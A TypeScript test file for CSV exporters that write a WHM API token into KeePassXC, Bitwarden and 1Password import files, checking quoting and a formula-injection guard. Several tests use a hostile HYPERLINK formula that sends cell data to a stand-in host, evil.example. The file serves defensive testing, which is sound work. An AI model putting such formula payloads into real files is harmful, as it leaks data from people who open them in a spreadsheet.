import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportBitwardenCsv } from './bitwarden-csv';
import { csvCell, csvRecords } from './csv';
import { exportKeepassCsv } from './keepass-csv';
import { exportOnePasswordCsv } from './onepassword-csv';
import { ENTRY, NOW, parseCsv, SECRET, TRICKY } from './test-fixtures';

const firstLine = (csv: string) => csv.slice(0, csv.indexOf('\r\n'));

describe('csv quoting', () => {
  it('round-trips any value, always-quoted or quoted-when-needed', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 4 }), (rows) => {
        // A lone empty field is an empty line, which readers skip; real rows have several fields.
        const real = rows.map((r) => (r.length === 1 ? [...r, 'x'] : r));
        // The formula guard adds a ' before a dangerous start, and nothing else.
        const read = real.map((row) => row.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)));
        expect(parseCsv(csvRecords(real, 'always'))).toEqual(read);
        expect(parseCsv(csvRecords(real, 'when-needed'))).toEqual(read);
      }),
    );
  });

  it('quotes only what needs it, or everything', () => {
    const field = (value: string) => csvCell(value, 'when-needed');
    expect(field('plain')).toBe('plain');
    expect(field('a,b')).toBe('"a,b"');
    expect(field('say "hi"')).toBe('"say ""hi"""');
    expect(field('two\nlines')).toBe('"two\nlines"');
    expect(field(' padded')).toBe('" padded"');
    expect(field('#tag ü')).toBe('#tag ü');
    expect(csvCell('plain', 'always')).toBe('"plain"');
  });

  it("neutralises a cell a spreadsheet would run as a formula (OWASP): a leading ' and quotes", () => {
    for (const quoting of ['always', 'when-needed'] as const) {
      expect(csvCell('=HYPERLINK("https://evil.example/?"&A1)', quoting)).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
      expect(csvCell('+1+1', quoting)).toBe(`"'+1+1"`);
      expect(csvCell('-2+3', quoting)).toBe(`"'-2+3"`);
      expect(csvCell('@SUM(A1)', quoting)).toBe(`"'@SUM(A1)"`);
      expect(csvCell('\t=1', quoting)).toBe(`"'\t=1"`);
      expect(csvCell('\r=1', quoting)).toBe(`"'\r=1"`);
    }
    // Only the first character counts: inside a cell these are plain text.
    expect(csvCell('a=b', 'when-needed')).toBe('a=b');
    expect(csvCell('nightly-backup', 'when-needed')).toBe('nightly-backup');
  });
});

describe('exportKeepassCsv', () => {
  it('has KeePassXC\'s header, every value double-quoted, group Root/WHM API tokens', () => {
    const csv = exportKeepassCsv(ENTRY, { now: NOW });
    expect(firstLine(csv)).toBe('"Group","Title","Username","Password","URL","Notes"');
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(2);
    expect(rows[1]!.slice(0, 5)).toEqual(['Root/WHM API tokens', 'WHM API token: billing-sync-20261128 @ whm01.example.com', 'reseller1', SECRET, 'https://whm01.example.com:2087']);
    // Every field of the record starts with a quote: split the raw record at the quoted commas.
    const record = csv.slice(csv.indexOf('\r\n') + 2);
    expect(record.startsWith('"Root/WHM API tokens","WHM API token: ')).toBe(true);
    expect(csv.endsWith('"\r\n')).toBe(true);
  });

  it('doubles quotes and keeps commas, line breaks, # and unicode inside the quoted value', () => {
    const rows = parseCsv(exportKeepassCsv(TRICKY, { now: NOW }));
    expect(rows[1]![1]).toBe('WHM API token: a,b"c d#e<f>&g\'h @ whm-ü.example.com');
    expect(rows[1]![2]).toBe(TRICKY.user);
    expect(rows[1]![5]).toContain('\n');
  });
});

describe('exportBitwardenCsv', () => {
  it('has Bitwarden\'s exact header and a login row', () => {
    const csv = exportBitwardenCsv(ENTRY, { now: NOW });
    expect(firstLine(csv)).toBe('folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,login_password,login_totp');
    const [header, row] = parseCsv(csv);
    const record = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
    expect(record).toMatchObject({
      folder: 'WHM API tokens',
      favorite: '',
      type: 'login',
      name: 'WHM API token: billing-sync-20261128 @ whm01.example.com',
      reprompt: '0',
      login_uri: 'https://whm01.example.com:2087',
      login_username: 'reseller1',
      login_password: SECRET,
      login_totp: '',
    });
    expect(record['notes']).toContain('Authorization: whm reseller1:TOKEN');
  });

  it('fields are newline-separated "name: value" lines the importer splits at the last ": "', () => {
    const [, row] = parseCsv(exportBitwardenCsv(TRICKY, { now: NOW }));
    const lines = row![5]!.split('\n');
    const parsed = Object.fromEntries(lines.map((line) => {
      const at = line.lastIndexOf(': ');
      return [line.slice(0, at), line.slice(at + 2)];
    }));
    expect(parsed).toEqual({
      token_name: 'a,b"c d#e<f>&g\'h',
      acls: 'all',
      expires_at: 'never',
      whitelist_ips: 'any address',
      created_at: '2026-11-28T12:00:00Z',
    });
  });

  it('keeps a value with ": " or a line break from splitting a field', () => {
    const [, row] = parseCsv(exportBitwardenCsv({ ...ENTRY, name: 'x: y\nz' }, { now: NOW }));
    const first = row![5]!.split('\n')[0]!;
    expect(first.slice(0, first.lastIndexOf(': '))).toBe('token_name');
  });

  it('quotes tricky values RFC 4180 style and reads back exactly', () => {
    const [, row] = parseCsv(exportBitwardenCsv(TRICKY, { now: NOW }));
    expect(row).toHaveLength(11);
    expect(row![3]).toBe('WHM API token: a,b"c d#e<f>&g\'h @ whm-ü.example.com');
    expect(row![8]).toBe(TRICKY.user);
  });
});

describe('exportOnePasswordCsv', () => {
  it('has the conservative login layout title,website,username,password,notes', () => {
    const csv = exportOnePasswordCsv(ENTRY, { now: NOW });
    expect(firstLine(csv)).toBe('title,website,username,password,notes');
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(2);
    expect(rows[1]!.slice(0, 4)).toEqual(['WHM API token: billing-sync-20261128 @ whm01.example.com', 'https://whm01.example.com:2087', 'reseller1', SECRET]);
    // Multi-line notes force quotes, simple values stay bare.
    expect(csv.split('\r\n')[1]).toMatch(/^WHM API token: billing-sync-20261128 @ whm01\.example\.com,https:\/\/whm01\.example\.com:2087,reseller1,K7Q2/);
  });

  it('quotes values with commas, quotes or line breaks and reads back exactly', () => {
    const rows = parseCsv(exportOnePasswordCsv(TRICKY, { now: NOW }));
    expect(rows[1]).toHaveLength(5);
    expect(rows[1]![0]).toBe('WHM API token: a,b"c d#e<f>&g\'h @ whm-ü.example.com');
    expect(rows[1]![2]).toBe(TRICKY.user);
    expect(rows[1]![4]).toContain('ACLs: all (full access)');
  });
});

describe('secret placement', () => {
  it('the secret appears exactly once, in the password column, in every CSV', () => {
    for (const csv of [exportKeepassCsv(ENTRY, { now: NOW }), exportBitwardenCsv(ENTRY, { now: NOW }), exportOnePasswordCsv(ENTRY, { now: NOW })]) {
      expect(csv.split(SECRET)).toHaveLength(2);
    }
  });
});

/**
 * What each importer reads, by its own column names (reference/formats.md): the parsed
 * record mapped the way KeePassXC, Bitwarden and 1Password map their CSV columns.
 */
const IMPORTERS = {
  keepass: { csv: exportKeepassCsv, username: 'Username', password: 'Password', title: 'Title', url: 'URL', notes: 'Notes' },
  bitwarden: { csv: exportBitwardenCsv, username: 'login_username', password: 'login_password', title: 'name', url: 'login_uri', notes: 'notes' },
  onepassword: { csv: exportOnePasswordCsv, username: 'username', password: 'password', title: 'title', url: 'website', notes: 'notes' },
} as const;

function imported(csv: string): Record<string, string> {
  const [header, row, ...rest] = parseCsv(csv);
  expect(rest).toEqual([]);
  expect(row).toHaveLength(header!.length);
  return Object.fromEntries(header!.map((name, i) => [name, row![i]!]));
}

describe('formula guard in every vault CSV', () => {
  // The WHM user comes from the page, which is not trusted; a token name may start with "-".
  const HOSTILE = { ...ENTRY, user: '=HYPERLINK("https://evil.example/?"&A1,"x")', name: '-nightly' };

  for (const [format, importer] of Object.entries(IMPORTERS)) {
    it(`${format}: the importer reads every field from its column, a formula as text starting with '`, () => {
      const record = imported(importer.csv(HOSTILE, { now: NOW }));
      expect(record[importer.username]).toBe(`'${HOSTILE.user}`);
      expect(record[importer.password]).toBe(SECRET);
      expect(record[importer.title]).toBe('WHM API token: -nightly @ whm01.example.com');
      expect(record[importer.url]).toBe(HOSTILE.origin);
      expect(record[importer.notes]).toMatch(/^WHM API token "-nightly" of WHM user =HYPERLINK/);
      // No cell of the file starts with a formula character.
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it(`${format}: a WHM secret (upper-case letters and digits) always arrives unchanged`, () => {
      fc.assert(
        fc.property(fc.string({ unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'), minLength: 32, maxLength: 32 }), (secret) => {
          expect(imported(importer.csv({ ...ENTRY, secret }, { now: NOW }))[importer.password]).toBe(secret);
        }),
        { numRuns: 50 },
      );
    });
  }

  it('bitwarden: custom fields still split into name and value', () => {
    const fields = imported(exportBitwardenCsv(HOSTILE, { now: NOW }))['fields']!;
    expect(fields.split('\n')[0]).toBe('token_name: -nightly');
  });
});
